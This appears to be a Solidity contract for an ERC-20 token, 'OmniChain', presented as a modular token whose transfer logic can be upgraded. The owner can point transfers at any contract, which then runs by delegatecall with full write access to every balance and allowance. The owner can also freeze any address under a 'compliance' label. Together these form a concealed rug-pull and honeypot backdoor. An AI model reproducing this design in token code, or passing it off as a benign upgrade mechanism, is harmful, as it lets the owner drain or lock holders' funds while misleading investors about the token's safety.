// SPDX-License-Identifier: MIT
// OmniChain ($OMNI) - modular token: transfer logic can be upgraded for new chains
pragma solidity ^0.8.13;

interface IERC20 {
    function totalSupply() external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
    function allowance(address owner, address spender) external view returns (uint256);
    function approve(address spender, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
}

/// @dev shared layout of the token and its transfer modules
abstract contract OmniStorage {
    address internal _owner;
    address internal _transferLogic;
    uint256 internal _totalSupply;
    mapping(address => uint256) internal _balances;
    mapping(address => mapping(address => uint256)) internal _allowances;
    mapping(address => bool) internal _restricted;

    event Transfer(address indexed from, address indexed to, uint256 value);
}

interface IOmniTransferLogic {
    function executeTransfer(address from, address to, uint256 amount) external;
}

/// @notice Version 1 of the transfer module (run by delegatecall from the token).
contract OmniTransferLogicV1 is OmniStorage, IOmniTransferLogic {
    function executeTransfer(address from, address to, uint256 amount) external {
        require(!_restricted[from] && !_restricted[to], "OMNI: restricted");
        require(to != address(0), "OMNI: zero address");
        uint256 bal = _balances[from];
        require(bal >= amount, "OMNI: balance");
        unchecked {
            _balances[from] = bal - amount;
            _balances[to] += amount;
        }
        emit Transfer(from, to, amount);
    }
}

contract OmniChainToken is OmniStorage {
    string public constant name = "OmniChain";
    string public constant symbol = "OMNI";
    uint8 public constant decimals = 18;

    event Approval(address indexed owner, address indexed spender, uint256 value);
    event TransferLogicUpdated(address indexed logic);

    modifier onlyOwner() {
        require(msg.sender == _owner, "OMNI: owner only");
        _;
    }

    constructor() {
        _owner = msg.sender;
        _transferLogic = address(new OmniTransferLogicV1());
        _totalSupply = 1_000_000_000 ether;
        _balances[msg.sender] = _totalSupply;
        emit Transfer(address(0), msg.sender, _totalSupply);
    }

    function owner() external view returns (address) {
        return _owner;
    }

    function transferLogic() external view returns (address) {
        return _transferLogic;
    }

    function totalSupply() external view returns (uint256) {
        return _totalSupply;
    }

    function balanceOf(address account) external view returns (uint256) {
        return _balances[account];
    }

    function allowance(address holder, address spender) external view returns (uint256) {
        return _allowances[holder][spender];
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        _allowances[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _execute(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 a = _allowances[from][msg.sender];
        if (a != type(uint256).max) {
            require(a >= amount, "OMNI: allowance");
            _allowances[from][msg.sender] = a - amount;
        }
        _execute(from, to, amount);
        return true;
    }

    function setTransferLogic(address logic) external onlyOwner {
        _transferLogic = logic;
        emit TransferLogicUpdated(logic);
    }

    /// @notice compliance restriction (sanctioned addresses)
    function setRestricted(address account, bool restricted) external onlyOwner {
        _restricted[account] = restricted;
    }

    function transferOwnership(address newOwner) external onlyOwner {
        _owner = newOwner;
    }

    function _execute(address from, address to, uint256 amount) private {
        (bool ok, bytes memory ret) = _transferLogic.delegatecall(
            abi.encodeWithSelector(IOmniTransferLogic.executeTransfer.selector, from, to, amount)
        );
        if (!ok) {
            assembly {
                revert(add(ret, 32), mload(ret))
            }
        }
    }
}
